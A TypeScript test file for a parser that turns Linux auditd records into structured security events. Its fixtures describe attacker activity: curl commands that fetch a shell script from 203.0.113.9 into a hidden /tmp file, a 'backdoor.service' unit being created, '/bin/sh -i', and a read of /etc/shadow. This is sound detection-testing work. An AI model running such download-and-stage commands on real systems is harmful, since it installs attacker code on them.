import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseEvent } from '../index.ts';
import { parseAuditd } from './auditd.ts';
import { AUDIT, SYSLOG_AUDIT } from './auditd-samples.fixture.ts';
import { detectFormat } from './detect.ts';
import { parseSyslog } from './syslog.ts';
import {
  CTX,
  FUZZ_RUNS,
  hostileText,
  mutatedLine,
  neverThrows,
  parseFail,
  parseOk,
} from './syslog-testkit.ts';

const parse = (raw: string) => parseOk(parseAuditd, raw);

describe('parseAuditd: exact events', () => {
  it('reads a SYSCALL execve record: data as written, ECS process and user, syscall named', () => {
    expect(parse(AUDIT.syscallExecve)).toEqual({
      '@timestamp': '2026-11-22T10:00:00.123Z',
      'event.original': AUDIT.syscallExecve,
      'vigil.format': 'auditd',
      'event.module': 'auditd',
      'event.dataset': 'auditd.log',
      'event.kind': 'event',
      'event.action': 'syscall',
      'event.sequence': 4242,
      'event.category': ['process'],
      'event.type': ['start'],
      'event.outcome': 'success',
      'host.os.type': 'linux',
      'auditd.message_type': 'SYSCALL',
      'auditd.sequence': 4242,
      'auditd.result': 'success',
      'auditd.data.arch': 'c000003e',
      'auditd.data.syscall': '59',
      'auditd.data.SYSCALL': 'execve',
      'auditd.data.success': 'yes',
      'auditd.data.exit': '0',
      'auditd.data.a0': '55d1c2a0e0f0',
      'auditd.data.a1': '55d1c2a0e1a0',
      'auditd.data.a2': '55d1c2a0e2b8',
      'auditd.data.a3': '8',
      'auditd.data.items': '2',
      'auditd.data.ppid': '4000',
      'auditd.data.pid': '4321',
      'auditd.data.auid': '1000',
      'auditd.data.uid': '33',
      'auditd.data.gid': '33',
      'auditd.data.euid': '33',
      'auditd.data.suid': '33',
      'auditd.data.fsuid': '33',
      'auditd.data.egid': '33',
      'auditd.data.sgid': '33',
      'auditd.data.fsgid': '33',
      'auditd.data.tty': '(none)',
      'auditd.data.ses': '4',
      'auditd.data.comm': 'curl',
      'auditd.data.exe': '/usr/bin/curl',
      'auditd.data.subj': 'unconfined',
      'auditd.data.key': 'susp_activity',
      'process.pid': 4321,
      'process.parent.pid': 4000,
      'process.executable': '/usr/bin/curl',
      'process.name': 'curl',
      'user.id': '33',
      'user.audit.id': '1000',
      'user.effective.id': '33',
      'user.group.id': '33',
      message: AUDIT.syscallExecve.slice(AUDIT.syscallExecve.indexOf('arch=')),
    });
  });

  it('reads an EXECVE record: arguments in order, a hex argument decoded and its hex kept', () => {
    expect(parse(AUDIT.execve)).toEqual({
      '@timestamp': '2026-11-22T10:00:00.123Z',
      'event.original': AUDIT.execve,
      'vigil.format': 'auditd',
      'event.module': 'auditd',
      'event.dataset': 'auditd.log',
      'event.kind': 'event',
      'event.action': 'execve',
      'event.sequence': 4242,
      'event.category': ['process'],
      'event.type': ['start'],
      'host.os.type': 'linux',
      'auditd.message_type': 'EXECVE',
      'auditd.sequence': 4242,
      'auditd.data.argc': '5',
      'auditd.data.a0': 'curl',
      'auditd.data.a1': '-s',
      'auditd.data.a2': '-o',
      'auditd.data.a3': '/tmp/.x',
      'auditd.data.a4': 'http://203.0.113.9/a b.sh',
      'auditd.encoded.a4': '687474703A2F2F3230332E302E3131332E392F6120622E7368',
      'process.args': ['curl', '-s', '-o', '/tmp/.x', 'http://203.0.113.9/a b.sh'],
      'process.args_count': 5,
      'process.command_line': 'curl -s -o /tmp/.x http://203.0.113.9/a b.sh',
      message: 'curl -s -o /tmp/.x http://203.0.113.9/a b.sh',
    });
  });
});

describe('parseAuditd: record types and forms', () => {
  const cases: [name: string, raw: string, want: Record<string, unknown>][] = [
    ['CWD: working directory', AUDIT.cwd, { 'process.working_directory': '/var/www/html' }],
    [
      'PATH: file path, not a file event for a plain lookup',
      AUDIT.path,
      {
        'file.path': '/usr/bin/curl',
        'file.inode': '1835043',
        'auditd.data.nametype': 'NORMAL',
        'event.category': undefined,
      },
    ],
    [
      'PATH nametype CREATE: a file creation',
      AUDIT.pathCreate,
      {
        'file.path': '/etc/systemd/system/backdoor.service',
        'event.category': ['file'],
        'event.type': ['creation'],
        'event.sequence': 4250,
        '@timestamp': '2026-11-22T10:01:00.250Z',
      },
    ],
    [
      'PATH with a hex name (a blank in it): decoded',
      AUDIT.pathHex,
      {
        'file.path': '/tmp/a b.sh',
        'auditd.data.name': '/tmp/a b.sh',
        'auditd.encoded.name': '2F746D702F6120622E7368',
      },
    ],
    [
      'PROCTITLE: NUL-separated hex decoded to a command line; no process start',
      AUDIT.proctitle,
      {
        'process.command_line': 'curl -s http://203.0.113.9/x.sh -o /tmp/.x',
        'auditd.data.proctitle': 'curl -s http://203.0.113.9/x.sh -o /tmp/.x',
        'event.category': undefined,
        'event.type': undefined,
      },
    ],
    [
      'USER_AUTH failed: the account tried, the caller uid kept in data, outcome failure',
      AUDIT.userAuthFailed,
      {
        'user.name': 'root',
        'user.id': undefined,
        'user.audit.id': undefined,
        'auditd.data.uid': '0',
        'auditd.data.auid': '4294967295',
        'auditd.data.op': 'PAM:authentication',
        'auditd.data.terminal': 'ssh',
        'auditd.data.res': 'failed',
        'auditd.data.msg': undefined,
        'process.executable': '/usr/sbin/sshd',
        'source.ip': '203.0.113.50',
        'event.outcome': 'failure',
        'auditd.result': 'fail',
        'event.category': ['authentication'],
        'event.type': ['info'],
        'event.action': 'user_auth',
      },
    ],
    [
      'USER_LOGIN success: the user logged in by id, a session start',
      AUDIT.userLogin,
      {
        'user.id': '1000',
        'user.audit.id': '1000',
        'source.ip': '198.51.100.7',
        'auditd.data.terminal': '/dev/pts/1',
        'event.outcome': 'success',
        'event.category': ['authentication', 'session'],
        'event.type': ['start'],
      },
    ],
    [
      'USER_CMD: the sudo command decoded, from its directory',
      AUDIT.userCmd,
      {
        'process.command_line': 'systemctl restart nginx',
        'process.working_directory': '/home/bob',
        'process.executable': '/usr/bin/sudo',
        'user.id': '1000',
      },
    ],
    [
      'ADD_USER: account creation',
      AUDIT.addUser,
      { 'user.name': 'eve', 'event.category': ['iam'], 'event.type': ['user', 'creation'] },
    ],
    [
      'SERVICE_STOP: the unit from the nested msg',
      AUDIT.serviceStop,
      { 'auditd.data.unit': 'firewalld', 'process.name': 'systemd', 'event.outcome': 'success' },
    ],
    [
      'ENRICHED: interpreted names after \\x1d kept, user names set',
      AUDIT.enriched,
      {
        'auditd.data.SYSCALL': 'personality',
        'auditd.data.syscall': '135',
        'auditd.data.ARCH': 'x86_64',
        'auditd.data.a0': '40000',
        'auditd.data.key': '(null)',
        'user.name': 'bob',
        'user.audit.name': 'bob',
        'user.effective.name': 'bob',
        'user.group.name': 'bob',
        'user.id': '1000',
        message: AUDIT.enriched.slice(AUDIT.enriched.indexOf('arch='), AUDIT.enriched.indexOf('\x1d')),
      },
    ],
    [
      'node= prefix: the host',
      AUDIT.node,
      {
        'host.name': 'web1.example.com',
        'process.working_directory': '/root',
        'auditd.data.node': undefined,
      },
    ],
    [
      'EXECVE argument chunks joined and decoded',
      AUDIT.chunked,
      {
        'auditd.data.a2': "echo 'a b'",
        'auditd.data.a2_len': '10',
        'auditd.encoded.a2': '6563686F202761206227',
        'process.args': ['bash', '-c', "echo 'a b'"],
      },
    ],
    [
      'several rule keys (\\x01-separated hex) become a list; aarch64 syscall named; failure',
      AUDIT.twoKeys,
      {
        'auditd.data.key': ['susp', 'exe'],
        'auditd.data.SYSCALL': 'execve',
        'event.outcome': 'failure',
        'auditd.result': 'fail',
      },
    ],
    [
      'a bare value that only looks like hex is kept (auditd would have quoted "dash")',
      'type=SYSCALL msg=audit(1795341600.000:1): arch=c000003e syscall=2 comm=64617368 exe="/bin/dash"',
      { 'process.name': '64617368', 'process.executable': '/bin/dash', 'auditd.encoded.comm': undefined },
    ],
    [
      'the kernel printk form: numeric type named, dmesg uptime and "audit: " skipped',
      '[ 1234.567890] audit: type=1327 audit(1795341600.123:45): proctitle=2F62696E2F7368002D69',
      { 'auditd.message_type': 'PROCTITLE', 'auditd.data.proctitle': '/bin/sh -i', 'event.sequence': 45 },
    ],
    [
      'an unknown numeric type as auditd names it; words that are not pairs kept as text',
      'type=1999 audit(1795341600.123:46): avc:  denied  { read } for pid=1 name="x"',
      {
        'auditd.message_type': 'UNKNOWN[1999]',
        'auditd.text': 'avc: denied { read } for',
        'file.path': undefined,
      },
    ],
    [
      "a nested msg='…' holding a quoted ' (auditd only hex-encodes blanks, controls and double quotes)",
      "type=USER_ACCT msg=audit(1795341600.000:2): pid=1 uid=0 msg='op=PAM:accounting acct=\"o'brien\" res=success'",
      { 'user.name': "o'brien", 'auditd.data.res': 'success', 'auditd.data.op': 'PAM:accounting' },
    ],
    [
      'an unterminated quote ends with the line',
      'type=CWD msg=audit(1795341600.000:3): cwd="/tmp/x',
      { 'process.working_directory': '/tmp/x' },
    ],
    [
      'microseconds kept, an empty body accepted (EOE)',
      'type=EOE msg=audit(1795341600.123456:47): ',
      { '@timestamp': '2026-11-22T10:00:00.123456Z', message: undefined, 'auditd.message_type': 'EOE' },
    ],
  ];
  for (const [name, raw, want] of cases) {
    it(name, () => {
      const e = parse(raw);
      for (const [k, v] of Object.entries(want)) expect(e[k], k).toEqual(v);
      expect(e['event.original']).toBe(raw);
    });
  }
});

describe('parseAuditd: rejections say what is wrong', () => {
  const cases: [raw: string, reason: RegExp][] = [
    ['', /expected an audit record/],
    ['hello world', /expected an audit record .* at offset 0/],
    ['type=SYSCALL', /expected a record type after "type="|expected "msg=audit\("/],
    ['type=SYSCALL arch=c000003e', /expected "msg=audit\(" at offset 13/],
    ['type= msg=audit(1.2:3): x=1', /expected a record type after "type=" at offset 5/],
    ['type=SYSCALL msg=audit(abc:1): x=1', /expected audit\(SECONDS.MILLIS:SERIAL\) at offset 23/],
    ['type=SYSCALL msg=audit(1795341600.123:4242) arch=x', /expected the serial and "\):"/],
    ['type=SYSCALL msg=audit(1795341600:4242): arch=x', /expected audit\(SECONDS.MILLIS:SERIAL\)/],
    ['node= type=CWD msg=audit(1.2:3): cwd="/"', /empty node= at offset 0/],
    [
      'type=SYSCALL msg=audit(11/22/2026 10:00:00.123:4242) : arch=x86_64 syscall=execve',
      /"ausearch -i" output; export with "ausearch --raw"/,
    ],
    ['<13>Nov 22 10:00:00 web1 sshd[1]: Accepted password for bob', /after the syslog header at offset 34/],
  ];
  for (const [raw, reason] of cases) {
    it(`rejects ${JSON.stringify(raw.slice(0, 50))}`, () => {
      expect(parseFail(parseAuditd, raw)).toMatch(/^auditd: /);
      expect(parseFail(parseAuditd, raw)).toMatch(reason);
    });
  }
});

describe('auditd lines forwarded over syslog', () => {
  it('audispd with node=: the audit record, the syslog header kept, the forwarder not the process', () => {
    for (const parser of [parseAuditd, parseSyslog]) {
      const e = parseOk(parser, SYSLOG_AUDIT.audispd);
      expect(e['vigil.format']).toBe('auditd');
      expect(e['event.dataset']).toBe('auditd.log');
      expect(e['auditd.message_type']).toBe('USER_AUTH');
      expect(e['@timestamp']).toBe('2026-11-22T10:01:40.001Z');
      expect(e['host.name']).toBe('web1');
      expect(e['log.syslog.appname']).toBe('audispd');
      expect(e['log.syslog.facility.name']).toBe('authpriv');
      expect(e['process.name']).toBeUndefined();
      expect(e['process.executable']).toBe('/usr/sbin/sshd');
      expect(e['event.original']).toBe(SYSLOG_AUDIT.audispd);
    }
  });

  it('audisp-syslog[pid]: the forwarder pid is not the process pid', () => {
    const e = parseOk(parseSyslog, SYSLOG_AUDIT.audispSyslog);
    expect(e['log.syslog.procid']).toBe('1422');
    expect(e['process.pid']).toBeUndefined();
    expect(e['process.command_line']).toBe('curl -s -o /tmp/.x http://203.0.113.9/a b.sh');
  });

  it('RFC 5424 and the kernel printk form', () => {
    const a = parseOk(parseSyslog, SYSLOG_AUDIT.rfc5424);
    expect([a['auditd.message_type'], a['log.syslog.version'], a['process.name']]).toEqual([
      'SYSCALL',
      1,
      'curl',
    ]);
    const k = parseOk(parseSyslog, SYSLOG_AUDIT.kernel);
    expect(k['auditd.message_type']).toBe('AVC');
    expect(k['auditd.data.apparmor']).toBe('DENIED');
    expect(k['auditd.data.name']).toBe('/etc/shadow');
    expect(k['process.name']).toBe('cupsd');
  });

  it('a syslog message that merely mentions type= stays a syslog message', () => {
    const raw = '<13>Nov 22 10:00:00 web1 app: saw type=SYSCALL msg=audit(1795341600.123:1): x=1 in a log';
    const e = parseOk(parseSyslog, raw);
    expect(e['vigil.format']).toBe('rfc3164');
    expect(e.message).toBe(raw.slice(raw.indexOf('saw')));
  });
});

describe('auto-detection', () => {
  it('detects bare, node=, dmesg and syslog-wrapped audit records', () => {
    for (const raw of [AUDIT.syscallExecve, AUDIT.node, AUDIT.enriched, ...Object.values(SYSLOG_AUDIT)]) {
      expect(detectFormat(raw), raw.slice(0, 40)).toBe('auditd');
    }
    expect(detectFormat('[ 1234.5] audit: type=1300 audit(1795341600.123:9): arch=c000003e')).toBe('auditd');
  });

  it('leaves look-alikes to their formats', () => {
    expect(detectFormat('type=SYSCALL but no audit stamp')).toBe('text');
    expect(detectFormat('<13>Nov 22 10:00:00 web1 sshd[1]: type=password for bob')).toBe('rfc3164');
    expect(detectFormat('{"type":"SYSCALL"}')).toBe('json');
  });

  it('parseEvent auto and format auditd give the same event', () => {
    for (const raw of [AUDIT.execve, SYSLOG_AUDIT.audispd]) {
      const auto = parseEvent(raw, 'auto', CTX);
      expect(auto).toEqual(parseEvent(raw, 'auditd', CTX));
      expect(auto.ok && auto.event['vigil.format']).toBe('auditd');
    }
  });

  it('auto keeps a line it guessed as auditd but cannot read as one (plain syslog, then text)', () => {
    const raw = '<13>Nov 22 10:00:00 web1 app: saw type=SYSCALL msg=audit(1.2:3): x';
    expect(detectFormat(raw)).toBe('auditd');
    const out = parseEvent(raw, 'auto', CTX);
    expect(out.ok && out.event['vigil.format']).toBe('rfc3164');
  });
});

describe('parseAuditd: never throws', () => {
  const samples = [...Object.values(AUDIT), ...Object.values(SYSLOG_AUDIT)];
  it('any text gives an event or a reason', () => {
    fc.assert(neverThrows(parseAuditd, hostileText), { numRuns: FUZZ_RUNS });
  });
  it('edited audit lines give an event or a reason', () => {
    fc.assert(neverThrows(parseAuditd, mutatedLine(samples)), { numRuns: FUZZ_RUNS * 3 });
  });
  it('edited audit lines through syslog and auto give an event or a reason', () => {
    fc.assert(neverThrows(parseSyslog, mutatedLine(samples)), { numRuns: FUZZ_RUNS });
    fc.assert(
      neverThrows((raw, ctx) => parseEvent(raw, 'auto', ctx), mutatedLine(samples)),
      { numRuns: FUZZ_RUNS },
    );
  });
});
